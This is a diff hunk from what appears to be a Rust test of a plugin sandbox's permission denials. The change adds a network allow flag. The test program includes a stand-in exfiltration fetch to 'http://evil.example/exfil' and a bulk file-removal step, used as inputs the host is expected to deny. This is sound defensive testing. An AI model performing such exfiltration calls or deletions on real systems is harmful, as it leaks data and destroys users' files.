@@ -798,7 +798,7 @@ fn the_page_names_what_each_plugin_lacked_of_each_kind_and_the_flags_of_that_alo
     let sends = (0..40).map(|n| json!({ "do": "fetch", "url": format!("http://h{n}.example/") }));
     let flood: Vec<Value> = sends.chain([files("remove", "/papers/{}", 40)]).collect();
     let program = steps(&[tool(&flood), fetch("http://evil.example/exfil")]);
-    let host = with_probe_tool(&home).args(["--allow", "fs:./papers"]);
+    let host = with_probe_tool(&home).args(["--allow", "fs:./papers", "--allow", "net:other.example"]);
     let output = host.probe(&program).output().expect(0);
     let denied = output.json()["denied"].as_array().unwrap().clone();
     let of = |plugin: &str, kind: &str| -> usize {
